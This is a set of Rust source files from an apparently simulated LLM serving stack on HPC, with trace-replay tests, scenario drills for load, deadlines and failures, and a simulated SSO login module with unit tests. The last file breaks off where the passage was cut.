        let text = "0 u0/s0 intel-neural-7b chat 16\n\
                    1500000 crawler mixtral-8x7b longdoc 64\n\
                    1500000 u1 intel-neural-7b batch 128\n";
        let t = Trace::parse(text).unwrap();
        assert_eq!(t.len(), 3);
        assert_eq!(t.serialize(), text, "canonical text survives a round trip");
        assert_eq!(Trace::parse(&t.serialize()).unwrap(), t);
        assert_eq!(t.events[0].session.as_deref(), Some("s0"));
        assert_eq!(t.events[1].session, None);
        assert_eq!(t.events[1].class, PromptClass::LongDoc);
        assert_eq!(t.horizon_us(), 1_500_000);
    }

    #[test]
    fn parse_skips_comments_and_blank_lines() {
        let t = Trace::parse("# header\n\n  \n10 u0 m chat 4\n# tail\n").unwrap();
        assert_eq!(t.len(), 1);
        assert_eq!(t.events[0].at_us, 10);
    }

    #[test]
    fn malformed_lines_are_rejected_with_line_numbers() {
        let cases: &[(&str, usize, &str)] = &[
            ("10 u0 m chat\n", 1, "expected 5 fields"),
            ("# ok\nnope u0 m chat 4\n", 2, "bad timestamp"),
            ("10 u0 m chat 4\n5 u1 m chat 4\n", 2, "non-decreasing"),
            ("10 u/0/x m chat 4\n", 1, "bad session"),
            ("10 u0 m telepathy 4\n", 1, "unknown prompt class"),
            ("10 u0 m chat 0\n", 1, "bad out_tokens"),
            ("10 u0 m chat -3\n", 1, "bad out_tokens"),
            ("# c\n\n10 u0 m chat 4\n11 u!me m chat 4\n", 4, "bad user"),
        ];
        for (text, line, needle) in cases {
            let err = Trace::parse(text).expect_err(text);
            assert_eq!(err.line, *line, "{text:?} -> {err}");
            assert!(err.to_string().contains(needle), "{text:?} -> {err}");
            assert!(err.to_string().contains(&format!("line {line}")), "{err}");
        }
    }

    #[test]
    fn bundled_trace_parses_and_round_trips() {
        let t = Trace::bundled_university_morning();
        assert!(t.len() >= 100, "skeleton should carry a real morning: {}", t.len());
        assert_eq!(Trace::parse(&t.serialize()).unwrap(), t);
        // The recording exercises every class and more than one model.
        for class in PromptClass::ALL {
            assert!(t.events.iter().any(|e| e.class == class), "no {class} events");
        }
        let models: std::collections::BTreeSet<_> =
            t.events.iter().map(|e| e.model.as_str()).collect();
        assert!(models.len() >= 2, "single-model recording: {models:?}");
        // Non-decreasing by construction (parse would have failed).
        assert!(t.events.windows(2).all(|w| w[0].at_us <= w[1].at_us));
    }

    #[test]
    fn scaled_multiplies_users_deterministically() {
        let base = Trace::new(vec![ev(0, "u0", Some("s0")), ev(1_000_000, "u1", None)]);
        let a = base.scaled(3, 500_000, 9);
        let b = base.scaled(3, 500_000, 9);
        assert_eq!(a, b, "same seed scales identically");
        assert_ne!(a, base.scaled(3, 500_000, 10), "different seeds jitter differently");
        assert_eq!(a.len(), 6);
        // Clone 0 keeps the recorded identity and timestamp.
        assert!(a.events.iter().any(|e| e.user == "u0" && e.at_us == 0));
        assert!(a.events.iter().any(|e| e.user == "u0~1"));
        assert!(a.events.iter().any(|e| e.user == "u0~2"));
        // Sessions scale with their users.
        let clone = a.events.iter().find(|e| e.user == "u0~1").unwrap();
        assert_eq!(clone.session.as_deref(), Some("s0~1"));
        // Jitter never reorders the trace out of canonical form.
        assert!(a.events.windows(2).all(|w| w[0].at_us <= w[1].at_us));
        assert_eq!(Trace::parse(&a.serialize()).unwrap(), a);
        // mult == 1 is the identity.
        assert_eq!(base.scaled(1, 500_000, 9), base);
    }

    #[test]
    fn poisson_and_diurnal_segments_merge_ordered() {
        let mut rng = Rng::new(7);
        let chat = Trace::poisson(
            5.0,
            0,
            10_000_000,
            8,
            "c",
            "intel-neural-7b",
            PromptClass::Chat,
            16,
            &mut rng,
        );
        assert!(!chat.is_empty());
        assert!(chat.events.iter().all(|e| e.at_us < 10_000_000));
        assert!(chat.events.iter().all(|e| e.session.as_deref() == Some(e.user.as_str())));
        let docs = Trace::poisson(
            1.0,
            2_000_000,
            8_000_000,
            2,
            "d",
            "intel-neural-7b",
            PromptClass::LongDoc,
            32,
            &mut rng,
        );
        assert!(docs.events.iter().all(|e| e.session.is_none()));
        let wl = DiurnalArrivals {
            users: 5,
            mean_rps: 2.0,
            amplitude: 0.5,
            period: Duration::from_secs(10),
        };
        let diurnal = Trace::from_diurnal(
            &wl,
            Duration::from_secs(10),
            "u",
            "mixtral-8x7b",
            PromptClass::Chat,
            8,
            &mut rng,
        );
        let merged = Trace::merge(vec![chat.clone(), docs.clone(), diurnal.clone()]);
        assert_eq!(merged.len(), chat.len() + docs.len() + diurnal.len());
        assert!(merged.events.windows(2).all(|w| w[0].at_us <= w[1].at_us));
        // Canonical after merge: serialize→parse round-trips.
        assert_eq!(Trace::parse(&merged.serialize()).unwrap(), merged);
    }

    #[test]
    fn prompts_are_class_shaped_and_deterministic() {
        for class in PromptClass::ALL {
            let p = class.prompt("u0", 3);
            assert_eq!(p.len(), class.prompt_chars());
            assert_eq!(p, class.prompt("u0", 3), "same (user, tag) => same prompt");
            assert_ne!(p, class.prompt("u1", 3), "users diverge past the preamble");
            assert_ne!(p, class.prompt("u0", 4), "tags diverge past the preamble");
            // Shared preamble: the first KV block can cross-user hit.
            let shared = p
                .chars()
                .zip(class.prompt("u1", 9).chars())
                .take_while(|(a, b)| a == b)
                .count();
            assert!(shared >= 16, "{class}: only {shared} shared preamble chars");
        }
        assert!(PromptClass::LongDoc.prompt_chars() >= 5 * PromptClass::Chat.prompt_chars());
    }

    mod props {
        use super::*;
        use crate::prop_assert;
        use crate::util::prop::run_prop;
        use crate::util::rng::Rng;

        const IDENT: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._~-";

        fn ident(rng: &mut Rng) -> String {
            (0..rng.range(1, 12)).map(|_| *rng.choose(IDENT).unwrap() as char).collect()
        }

        /// A random canonical trace: sorted timestamps, valid idents,
        /// every class, optional sessions.
        fn arbitrary(rng: &mut Rng) -> Trace {
            let mut at = 0u64;
            let events = (0..rng.range(1, 40))
                .map(|_| {
                    at += rng.below(2_000_000);
                    TraceEvent {
                        at_us: at,
                        user: ident(rng),
                        session: if rng.chance(0.4) { Some(ident(rng)) } else { None },
                        model: ident(rng),
                        class: *rng.choose(&PromptClass::ALL).unwrap(),
                        out_tokens: rng.range(1, 256) as usize,
                    }
                })
                .collect();
            Trace::new(events)
        }

        #[test]
        fn random_canonical_traces_round_trip_bit_exactly() {
            run_prop("trace_round_trip", 0x7A, 60, |rng| {
                let t = arbitrary(rng);
                let text = t.serialize();
                let back = Trace::parse(&text)
                    .map_err(|e| format!("canonical text failed to parse: {e}"))?;
                prop_assert!(back == t, "parse(serialize(t)) != t");
                prop_assert!(
                    back.serialize() == text,
                    "serialize is not a fixed point of parse . serialize"
                );
                Ok(())
            });
        }

        #[test]
        fn corrupting_any_line_reports_that_line_number() {
            run_prop("trace_error_line_numbers", 0x7B, 60, |rng| {
                let t = arbitrary(rng);
                let mut lines: Vec<String> =
                    t.serialize().lines().map(str::to_string).collect();
                let j = rng.below(lines.len() as u64) as usize;
                // Two corruptions no valid line can contain: a non-numeric
                // timestamp, or too few fields.
                lines[j] = if rng.chance(0.5) {
                    format!("x {}", &lines[j][lines[j].find(' ').unwrap() + 1..])
                } else {
                    "only three fields".into()
                };
                let err = Trace::parse(&(lines.join("\n") + "\n"))
                    .err()
                    .ok_or_else(|| format!("corrupted line {j} still parsed"))?;
                prop_assert!(
                    err.line == j + 1,
                    "corrupted line {} but error names line {}: {err}",
                    j + 1,
                    err.line
                );
                Ok(())
            });
        }
    }

    #[test]
    fn replay_requests_carry_trace_fields_and_class_deadlines() {
        let replay = TraceReplay::new(1_000_000).with_deadline(PromptClass::Chat, 15_000);
        let chat = replay.request(&ev(5, "u7", Some("s7")), 2);
        assert_eq!(chat.user, "u7");
        assert_eq!(chat.session.as_deref(), Some("s7"));
        assert_eq!(chat.model, "intel-neural-7b");
        assert_eq!(chat.max_tokens, 16);
        assert_eq!(chat.deadline_ms, Some(15_000));
        assert_eq!(chat.prompt, PromptClass::Chat.prompt("u7", 2));
        let mut doc_ev = ev(5, "u7", None);
        doc_ev.class = PromptClass::LongDoc;
        assert_eq!(replay.request(&doc_ev, 0).deadline_ms, None, "only chat has a deadline");
    }
}
