//! The scenario matrix (DESIGN.md §Workloads): named, shape-checked
//! serving drills composed from trace replay + the virtual-time stack.
//!
//! Each scenario is a full-stack story the paper's deployment has to
//! survive — diurnal load riding scavenger elasticity, a 10× flash crowd
//! against scale-from-zero, interactive/batch tiers under deadline
//! priorities, a long-document prefill flood sharing engines with chat,
//! and a coordinated failure drill — expressed as a [`Trace`] replayed
//! into [`SimStack`] under virtual time. [`ScenarioMatrix::run`] executes
//! a scenario **twice** and byte-compares the traces (the determinism
//! contract), then applies the scenario's explicit shape check; the
//! result carries latency/throughput metrics plus a `passed` flag, so
//! `benches/scenario_matrix.rs` and CI turn the whole stack into a
//! pass/fail regression surface.
//!
//! Scenarios are deterministic in `(seed, smoke)`: all randomness flows
//! from salted [`Rng`] children of the matrix seed, and the stack itself
//! replays bit-identically per seed. Smoke mode shrinks populations and
//! horizons, never the scenario *structure* — every fault still fires and
//! every shape check still runs.

use std::time::Duration;

use crate::scheduler::ServiceSpec;
use crate::stack::{SimRecord, StackBuilder};
use crate::util::bench::stats;
use crate::util::faults::{FaultEvent, FaultPlan};
use crate::util::rng::Rng;
use crate::workload::trace::{PromptClass, Trace, TraceReplay};
use crate::workload::DiurnalArrivals;

const MODEL: &str = "intel-neural-7b";

/// The five scenarios, in report order. These names are the
/// `BENCH_scenarios.json` keys CI validates.
pub const SCENARIO_NAMES: [&str; 5] = [
    "diurnal_scavenger",
    "flash_crowd",
    "tiered_deadlines",
    "prefill_flood",
    "failure_drill",
];

/// One execution of a scenario: the canonical stack trace plus the
/// per-request records the shape checks read.
pub struct ScenarioRun {
    pub trace: String,
    pub records: Vec<SimRecord>,
}

/// The verdict on one scenario: metrics from the first execution, the
/// replay comparison, and every shape-check failure (empty = `passed`).
pub struct ScenarioOutcome {
    pub name: &'static str,
    pub requests: usize,
    pub completed: usize,
    pub rps: f64,
    pub p50_ms: f64,
    pub p99_ms: f64,
    pub ttft_ms: f64,
    pub passed: bool,
    pub failures: Vec<String>,
    pub trace: String,
}

/// The scenario matrix driver: `(seed, smoke)` fully determine every run.
#[derive(Debug, Clone, Copy)]
pub struct ScenarioMatrix {
    pub seed: u64,
    pub smoke: bool,
}

fn finished_ok(r: &SimRecord) -> bool {
    r.finish_reason == "stop" || r.finish_reason == "length"
}

fn completed(records: &[SimRecord]) -> Vec<&SimRecord> {
    records.iter().filter(|r| finished_ok(r)).collect()
}

/// Client-perceived latencies (finish − submit, ms) of completed
/// records whose user starts with `prefix` ("" = all).
fn latencies_ms(records: &[SimRecord], prefix: &str) -> Vec<f64> {
    records
        .iter()
        .filter(|r| finished_ok(r) && r.user.starts_with(prefix))
        .map(|r| (r.finish_us - r.submit_us) as f64 / 1e3)
        .collect()
}

fn p99(samples: &[f64]) -> f64 {
    if samples.is_empty() {
        0.0
    } else {
        stats(samples).p99
    }
}

/// Count `load job=…` weight-load lines in a stack trace.
fn load_lines(trace: &str) -> usize {
    trace.lines().filter(|l| l.starts_with("load ")).count()
}

/// Push a failure message unless `cond` holds.
fn expect(fails: &mut Vec<String>, cond: bool, msg: impl FnOnce() -> String) {
    if !cond {
        fails.push(msg());
    }
}

/// Require every record to have drained as stop/length; name the
/// stragglers by finish reason when they didn't.
fn expect_zero_drops(fails: &mut Vec<String>, name: &str, records: &[SimRecord]) {
    let dropped: Vec<&SimRecord> = records.iter().filter(|r| !finished_ok(r)).collect();
    expect(fails, dropped.is_empty(), || {
        let mut reasons: std::collections::BTreeMap<&str, usize> = Default::default();
        for r in &dropped {
            *reasons.entry(r.finish_reason.as_str()).or_default() += 1;
        }
        format!(
            "{name}: {} of {} requests dropped ({reasons:?})",
            dropped.len(),
            records.len()
        )
    });
}

impl ScenarioMatrix {
    pub fn new(seed: u64, smoke: bool) -> ScenarioMatrix {
        ScenarioMatrix { seed, smoke }
    }

    /// Per-scenario workload RNG: salted so scenarios draw independent
    /// streams from the one matrix seed.
    fn rng(&self, salt: u64) -> Rng {
        Rng::new(self.seed ^ (salt.wrapping_mul(0x9E37_79B9_7F4A_7C15)))
    }

    /// Execute one scenario once. Public so the seed-replay suite can
    /// byte-compare executions across processes; panics on an unknown
    /// name ([`SCENARIO_NAMES`] is the registry).
    pub fn run_once(&self, name: &str) -> ScenarioRun {
        match name {
            "diurnal_scavenger" => self.run_diurnal(),
            "flash_crowd" => self.run_flash_crowd(),
            "tiered_deadlines" => self.run_tiered(),
            "prefill_flood" => self.run_prefill_flood(),
            "failure_drill" => self.run_failure_drill(),
            other => panic!("unknown scenario {other:?} (see SCENARIO_NAMES)"),
        }
    }

    /// Execute a scenario twice (replay must be byte-identical), then
    /// apply its shape check and fold metrics from the first execution.
    pub fn run(&self, name: &str) -> ScenarioOutcome {
        let a = self.run_once(name);
        let b = self.run_once(name);
        let mut fails = Vec::new();
        expect(&mut fails, a.trace == b.trace, || {
            format!("{name}: replay diverged (trace not byte-identical)")
        });
        self.check(name, &a, &mut fails);

        let done = completed(&a.records);
        let lats = latencies_ms(&a.records, "");
        let ttfts: Vec<f64> = done
            .iter()
            .filter_map(|r| r.ttft_us.map(|t| t as f64 / 1e3))
            .collect();
        let (rps, p50_ms, p99_ms) = if done.is_empty() {
            (0.0, 0.0, 0.0)
        } else {
            let first = done.iter().map(|r| r.submit_us).min().unwrap();
            let last = done.iter().map(|r| r.finish_us).max().unwrap();
            let window = ((last - first) as f64 / 1e6).max(1e-9);
            let ls = stats(&lats);
            (done.len() as f64 / window, ls.p50, ls.p99)
        };
        ScenarioOutcome {
            name: SCENARIO_NAMES
                .into_iter()
                .find(|n| *n == name)
                .expect("run_once accepted the name"),
            requests: a.records.len(),
            completed: done.len(),
            rps,
            p50_ms,
            p99_ms,
            ttft_ms: if ttfts.is_empty() { 0.0 } else { stats(&ttfts).p50 },
            passed: fails.is_empty(),
            failures: fails,
            trace: a.trace,
        }
    }

    /// Run the full matrix in report order.
    pub fn run_all(&self) -> Vec<ScenarioOutcome> {
        SCENARIO_NAMES.iter().map(|n| self.run(n)).collect()
    }

    fn check(&self, name: &str, out: &ScenarioRun, fails: &mut Vec<String>) {
        match name {
            "diurnal_scavenger" => self.check_diurnal(out, fails),
            "flash_crowd" => self.check_flash_crowd(out, fails),
            "tiered_deadlines" => self.check_tiered(out, fails),
            "prefill_flood" => self.check_prefill_flood(out, fails),
            "failure_drill" => self.check_failure_drill(out, fails),
            _ => unreachable!("run_once validated the name"),
        }
    }

    // -- diurnal_scavenger --------------------------------------------------
    //
    // A single guaranteed replica, scavenger tier enabled: a diurnal chat
    // day whose peak demands more than the guaranteed tier, so the
    // overflow must ride schedule-gap scavenger replicas. Shape: nothing
    // drops, and the stack visibly scaled past its guaranteed floor
    // (> min_instances weight loads in the trace).

    fn diurnal_horizon(&self) -> Duration {
        Duration::from_secs(if self.smoke { 180 } else { 600 })
    }

    fn run_diurnal(&self) -> ScenarioRun {
        let horizon = self.diurnal_horizon();
        let wl = DiurnalArrivals {
            users: if self.smoke { 16 } else { 64 },
            mean_rps: if self.smoke { 3.0 } else { 4.0 },
            amplitude: 0.8,
            period: horizon,
        };
        let mut rng = self.rng(1);
        let trace =
            Trace::from_diurnal(&wl, horizon, "diurnal", MODEL, PromptClass::Chat, 24, &mut rng);
        let spec = ServiceSpec {
            max_instances: 1,
            max_scavengers: 2,
            target_concurrency: 1.0,
            ..ServiceSpec::sim(MODEL, 1.0)
        };
        self.execute(spec, Duration::from_secs(60), FaultPlan::new(), &trace, TraceReplay::new(40_000_000))
    }

    fn check_diurnal(&self, out: &ScenarioRun, fails: &mut Vec<String>) {
        expect_zero_drops(fails, "diurnal_scavenger", &out.records);
        let loads = load_lines(&out.trace);
        expect(fails, loads >= 2, || {
            format!(
                "diurnal_scavenger: peak never engaged the scavenger tier \
                 ({loads} weight loads for a 1-guaranteed-replica group)"
            )
        });
        let p = p99(&latencies_ms(&out.records, ""));
        expect(fails, p < 30_000.0, || {
            format!("diurnal_scavenger: p99 latency {p:.0} ms breaches the 30 s bound")
        });
    }

    // -- flash_crowd --------------------------------------------------------
    //
    // A scale-from-zero keep-alive group hit by a flash crowd: a trickle
    // wakes the group, then arrivals jump 10× for one simulated minute.
    // Shape: the cold start is visible on the waker, nothing drops
    // through the surge, the group scaled past one replica, and once the
    // crowd's replicas are warm the tail of the surge sees bounded p99.

    /// (trickle start, burst start, burst end) in trace-relative µs.
    fn flash_windows(&self) -> (u64, u64, u64) {
        (0, 60_000_000, 120_000_000)
    }

    fn run_flash_crowd(&self) -> ScenarioRun {
        let (t0, burst, burst_end) = self.flash_windows();
        let base_rps = if self.smoke { 0.5 } else { 0.8 };
        let users = if self.smoke { 12 } else { 32 };
        let mut rng = self.rng(2);
        let trickle = Trace::poisson(
            base_rps, t0, burst, users, "fc", MODEL, PromptClass::Chat, 32, &mut rng,
        );
        // The flash crowd: 10× the base arrival rate for one minute.
        let crowd = Trace::poisson(
            base_rps * 10.0, burst, burst_end, users, "fc", MODEL, PromptClass::Chat, 32, &mut rng,
        );
        let tail = Trace::poisson(
            base_rps, burst_end, burst_end + 30_000_000, users, "fc", MODEL, PromptClass::Chat,
            32, &mut rng,
        );
        let trace = Trace::merge(vec![trickle, crowd, tail]);
        let spec = ServiceSpec {
            min_instances: 0,
            max_instances: 3,
            target_concurrency: 1.0,
            keep_alive: Duration::from_secs(600),
            ..ServiceSpec::sim(MODEL, 1.0)
        };
        // Arrivals start at 5 s on a cold group: the first request pays
        // the wake (tick + 30 s load), so the queue budget must cover it.
        self.execute(spec, Duration::from_secs(150), FaultPlan::new(), &trace, TraceReplay::new(5_000_000))
    }

    fn check_flash_crowd(&self, out: &ScenarioRun, fails: &mut Vec<String>) {
        expect_zero_drops(fails, "flash_crowd", &out.records);
        let loads = load_lines(&out.trace);
        expect(fails, loads >= 2, || {
            format!("flash_crowd: the 10× surge never scaled past one replica ({loads} loads)")
        });
        // The waker pays the scale-from-zero cold start (≥ 30 s load).
        let first = out.records.iter().min_by_key(|r| r.submit_us);
        if let Some(first) = first {
            expect(fails, first.finish_us - first.submit_us > 30_000_000, || {
                format!(
                    "flash_crowd: first request finished in {} ms — no cold start on a \
                     min_instances=0 group?",
                    (first.finish_us - first.submit_us) / 1000
                )
            });
        }
        // Once warm replicas have landed, the surge tail is bounded: p99
        // over arrivals in the last 30 s of the burst and after.
        let (_, burst, burst_end) = self.flash_windows();
        let offset = 5_000_000;
        let warm_cut = offset + burst + (burst_end - burst) / 2;
        let warm: Vec<f64> = out
            .records
            .iter()
            .filter(|r| finished_ok(r) && r.submit_us >= warm_cut)
            .map(|r| (r.finish_us - r.submit_us) as f64 / 1e3)
            .collect();
        expect(fails, !warm.is_empty(), || {
            "flash_crowd: no completed arrivals in the warm half of the surge".into()
        });
        let p = p99(&warm);
        expect(fails, p < 20_000.0, || {
            format!("flash_crowd: warm-phase p99 {p:.0} ms breaches the 20 s bound")
        });
    }

    // -- tiered_deadlines ---------------------------------------------------
    //
    // Interactive chat and offline batch share a fixed two-replica fleet.
    // Interactive arrivals carry a 20 s end-to-end deadline budget; batch
    // items are long completions with no budget. Shape: no interactive
    // request misses its deadline, and the batch tier still drains.

    fn run_tiered(&self) -> ScenarioRun {
        let horizon = if self.smoke { 60_000_000 } else { 120_000_000 };
        let mut rng = self.rng(3);
        let interactive = Trace::poisson(
            4.0,
            0,
            horizon,
            if self.smoke { 12 } else { 24 },
            "int",
            MODEL,
            PromptClass::Chat,
            16,
            &mut rng,
        );
        let batch = Trace::poisson(
            0.4, 0, horizon, 4, "bat", MODEL, PromptClass::Batch, 96, &mut rng,
        );
        let trace = Trace::merge(vec![interactive, batch]);
        let spec = ServiceSpec {
            min_instances: 2,
            max_instances: 2,
            ..ServiceSpec::sim(MODEL, 1.0)
        };
        let replay = TraceReplay::new(40_000_000).with_deadline(PromptClass::Chat, 20_000);
        self.execute(spec, Duration::from_secs(60), FaultPlan::new(), &trace, replay)
    }

    fn check_tiered(&self, out: &ScenarioRun, fails: &mut Vec<String>) {
        let missed = out
            .records
            .iter()
            .filter(|r| r.user.starts_with("int") && r.finish_reason == "deadline")
            .count();
        expect(fails, missed == 0, || {
            format!("tiered_deadlines: {missed} interactive requests missed their 20 s deadline")
        });
        expect_zero_drops(fails, "tiered_deadlines", &out.records);
        let batch = out.records.iter().filter(|r| r.user.starts_with("bat")).count();
        expect(fails, batch > 0, || "tiered_deadlines: no batch arrivals generated".into());
        let p = p99(&latencies_ms(&out.records, "int"));
        expect(fails, p < 20_000.0, || {
            format!("tiered_deadlines: interactive p99 {p:.0} ms at the deadline edge")
        });
    }

    // -- prefill_flood ------------------------------------------------------
    //
    // Long-document summarizations (prompts ~5× the chat class, decoded
    // long) flood a fixed fleet that is simultaneously serving interactive
    // chat. Chunked prefill admission is what keeps chat alive. Shape:
    // both classes drain, and chat p99 stays bounded despite the flood.

    fn run_prefill_flood(&self) -> ScenarioRun {
        let horizon = if self.smoke { 60_000_000 } else { 120_000_000 };
        let mut rng = self.rng(4);
        // Documents arrive on a metronome (one per 2.5 s): a steady flood
        // whose per-engine co-residency is structurally bounded — a doc
        // takes well under the spacing to serve, so prefill pressure never
        // stacks deep enough to exhaust the paged-KV pool.
        let docs = Trace::new(
            (0..horizon / 2_500_000)
                .map(|i| crate::workload::trace::TraceEvent {
                    at_us: i * 2_500_000,
                    user: format!("doc{}", i % 6),
                    session: None,
                    model: MODEL.to_string(),
                    class: PromptClass::LongDoc,
                    out_tokens: 48,
                })
                .collect(),
        );
        let chat = Trace::poisson(
            3.0,
            0,
            horizon,
            if self.smoke { 10 } else { 20 },
            "chat",
            MODEL,
            PromptClass::Chat,
            16,
            &mut rng,
        );
        let trace = Trace::merge(vec![docs, chat]);
        let spec = ServiceSpec {
            min_instances: 2,
            max_instances: 2,
            ..ServiceSpec::sim(MODEL, 1.0)
        };
        self.execute(spec, Duration::from_secs(60), FaultPlan::new(), &trace, TraceReplay::new(40_000_000))
    }

    fn check_prefill_flood(&self, out: &ScenarioRun, fails: &mut Vec<String>) {
        expect_zero_drops(fails, "prefill_flood", &out.records);
        let docs = out.records.iter().filter(|r| r.user.starts_with("doc")).count();
        let chats = out.records.iter().filter(|r| r.user.starts_with("chat")).count();
        expect(fails, docs > 0 && chats > 0, || {
            format!("prefill_flood: degenerate mix ({docs} docs, {chats} chats)")
        });
        let p = p99(&latencies_ms(&out.records, "chat"));
        expect(fails, p < 10_000.0, || {
            format!("prefill_flood: chat p99 {p:.0} ms — the doc flood starved interactive traffic")
        });
    }

    // -- failure_drill ------------------------------------------------------
    //
    // The coordinated drill: a wave of traffic builds scavenger capacity,
    // then a node dies in the lull and a priority-10 preemption storm
    // lands mid-second-wave, preempting the scavenger tier while the
    // replacement replica is still loading. Shape: graceful drain +
    // gateway retry keep it at zero drops, and both fault lines fold into
    // the canonical trace.

    fn run_failure_drill(&self) -> ScenarioRun {
        let mut rng = self.rng(5);
        let users = if self.smoke { 10 } else { 24 };
        let rate = if self.smoke { 3.0 } else { 4.0 };
        // Wave 1: [40 s, 80 s) builds demand (and scavengers); the lull
        // [80 s, 130 s) lets in-flight work drain before the node dies.
        let wave1 = Trace::poisson(
            rate, 40_000_000, 80_000_000, users, "fd", MODEL, PromptClass::Chat, 16, &mut rng,
        );
        // Wave 2: [130 s, 170 s) rides the replacement replica while the
        // storm (135 s) is preempting scavengers mid-burst.
        let wave2 = Trace::poisson(
            rate, 130_000_000, 170_000_000, users, "fd", MODEL, PromptClass::Chat, 16, &mut rng,
        );
        let trace = Trace::merge(vec![wave1, wave2]);
        let plan = FaultPlan::new()
            .at(95_000_000, FaultEvent::NodeFail { node: "ggpu01".into() })
            .at(
                135_000_000,
                FaultEvent::PreemptionStorm {
                    jobs: 8,
                    gpus_per_job: 4,
                    walltime: Duration::from_secs(60),
                },
            )
            .at(200_000_000, FaultEvent::NodeRestore { node: "ggpu01".into() });
        // target_concurrency 0.4: the waves' ~1 in-flight request demands
        // ceil(1/0.4) = 3 replicas — two guaranteed plus one scavenger for
        // the storm to preempt.
        let spec = ServiceSpec {
            min_instances: 2,
            max_instances: 2,
            max_scavengers: 2,
            target_concurrency: 0.4,
            ..ServiceSpec::sim(MODEL, 1.0)
        };
        self.execute(spec, Duration::from_secs(120), plan, &trace, TraceReplay::new(0))
    }

    fn check_failure_drill(&self, out: &ScenarioRun, fails: &mut Vec<String>) {
        expect_zero_drops(fails, "failure_drill", &out.records);
        expect(fails, out.trace.contains("fault") && out.trace.contains("node_fail"), || {
            "failure_drill: node_fail missing from the canonical trace".into()
        });
        expect(fails, out.trace.contains("preemption_storm jobs=8"), || {
            "failure_drill: preemption storm missing from the canonical trace".into()
        });
        // Wave 2 actually completed (the fleet recovered).
        let wave2_done = out
            .records
            .iter()
            .filter(|r| finished_ok(r) && r.submit_us >= 130_000_000)
            .count();
        expect(fails, wave2_done > 0, || {
            "failure_drill: nothing completed after the node loss".into()
        });
    }

    // -- shared execution ---------------------------------------------------

    /// Build the stack, replay the trace, run to quiescence.
    fn execute(
        &self,
        spec: ServiceSpec,
        queue_timeout: Duration,
        faults: FaultPlan,
        trace: &Trace,
        replay: TraceReplay,
    ) -> ScenarioRun {
        assert!(!trace.is_empty(), "scenario generated an empty trace");
        let stack = StackBuilder::new()
            .with_seed(self.seed)
            .with_services(vec![spec])
            .with_queue_timeout(queue_timeout)
            .with_faults(faults)
            .build_sim();
        replay.submit(&stack, trace);
        assert!(
            stack.run_until_settled(Duration::from_secs(3600)),
            "scenario never settled: {} requests still open",
            stack.open_requests()
        );
        ScenarioRun { trace: stack.trace(), records: stack.records() }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scenario_registry_is_the_five_named_drills() {
        assert_eq!(SCENARIO_NAMES.len(), 5);
        let unique: std::collections::BTreeSet<_> = SCENARIO_NAMES.iter().collect();
        assert_eq!(unique.len(), 5, "scenario names must be unique JSON keys");
    }

    #[test]
    #[should_panic(expected = "unknown scenario")]
    fn unknown_scenario_names_panic() {
        ScenarioMatrix::new(7, true).run_once("no_such_drill");
    }

    #[test]
    fn tiered_scenario_replays_and_holds_its_deadline_shape() {
        // One full in-tree scenario execution (the cheapest drill) so the
        // matrix is exercised by `cargo test` and not only by the bench.
        let out = ScenarioMatrix::new(7, true).run("tiered_deadlines");
        assert!(out.passed, "failures: {:?}", out.failures);
        assert!(out.requests > 0 && out.completed == out.requests);
        assert!(out.rps > 0.0);
    }
}
