//! SSO authentication layer (§5.1).
//!
//! The paper fronts the stack with an Apache reverse proxy doing OpenIDC
//! against the Academic Cloud SSO. This module reproduces the *contract*:
//! a session store that exchanges credentials for bearer tokens and a
//! validator the gateway calls to turn a token into the user id (email)
//! that gets attached to every forwarded request — the only per-user datum
//! the backend ever sees (§6.2 data-minimisation).

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use sha2::{Digest, Sha256};

/// A registered SSO user.
#[derive(Debug, Clone)]
pub struct User {
    pub email: String,
    password_hash: [u8; 32],
}

/// The simulated identity provider.
#[derive(Clone, Default)]
pub struct SsoProvider {
    inner: Arc<Mutex<SsoInner>>,
}

#[derive(Default)]
struct SsoInner {
    users: BTreeMap<String, User>,
    /// token -> email
    sessions: BTreeMap<String, String>,
    counter: u64,
}

fn hash_password(pw: &str) -> [u8; 32] {
    let mut h = Sha256::new();
    h.update(b"chat-hpc-sso");
    h.update(pw.as_bytes());
    let mut out = [0u8; 32];
    out.copy_from_slice(&h.finalize());
    out
}

impl SsoProvider {
    pub fn new() -> SsoProvider {
        SsoProvider::default()
    }

    pub fn register(&self, email: &str, password: &str) {
        let mut inner = self.inner.lock().unwrap();
        inner.users.insert(
            email.to_string(),
            User { email: email.to_string(), password_hash: hash_password(password) },
        );
    }

    /// OAuth2 password exchange, reduced: credentials -> session token.
    pub fn login(&self, email: &str, password: &str) -> Option<String> {
        let mut inner = self.inner.lock().unwrap();
        let user = inner.users.get(email)?;
        if user.password_hash != hash_password(password) {
            return None;
        }
        inner.counter += 1;
        let mut h = Sha256::new();
        h.update(email.as_bytes());
        h.update(inner.counter.to_le_bytes());
        let token = format!("sso-{}", crate::sshsim::hex(&h.finalize()));
        inner.sessions.insert(token.clone(), email.to_string());
        Some(token)
    }

    /// Token -> user email (what Apache+OpenIDC attaches as the user id).
    pub fn validate(&self, token: &str) -> Option<String> {
        self.inner.lock().unwrap().sessions.get(token).cloned()
    }

    pub fn logout(&self, token: &str) {
        self.inner.lock().unwrap().sessions.remove(token);
    }

    pub fn session_count(&self) -> usize {
        self.inner.lock().unwrap().sessions.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn login_validate_logout() {
        let sso = SsoProvider::new();
        sso.register("ada@uni-goettingen.de", "hunter2");
        assert!(sso.login("ada@uni-goettingen.de", "wrong").is_none());
        assert!(sso.login("nobody@x", "pw").is_none());
        let token = sso.login("ada@uni-goettingen.de", "hunter2").unwrap();
        assert_eq!(sso.validate(&token).as_deref(), Some("ada@uni-goettingen.de"));
        sso.logout(&token);
        assert!(sso.validate(&token).is_none());
    }

    #[test]
    fn tokens_are_unique_per_login() {
        let sso = SsoProvider::new();
        sso.register("a@b", "pw");
        let t1 = sso.login("a@b", "pw").unwrap();
        let t2 = sso.login("a@b", "pw").unwrap();
        assert_ne!(t1, t2);
        assert_eq!(sso.session_count(), 2);
    }

    #[test]
    fn invalid_token_rejected() {
        let sso = SsoProvider::new();
        assert!(sso.validate("sso-forged").is_none());
    }
}
