//! `chat-hpc` launcher: boot the full Figure-1 stack and serve until
//! interrupted.
//!
//! ```bash
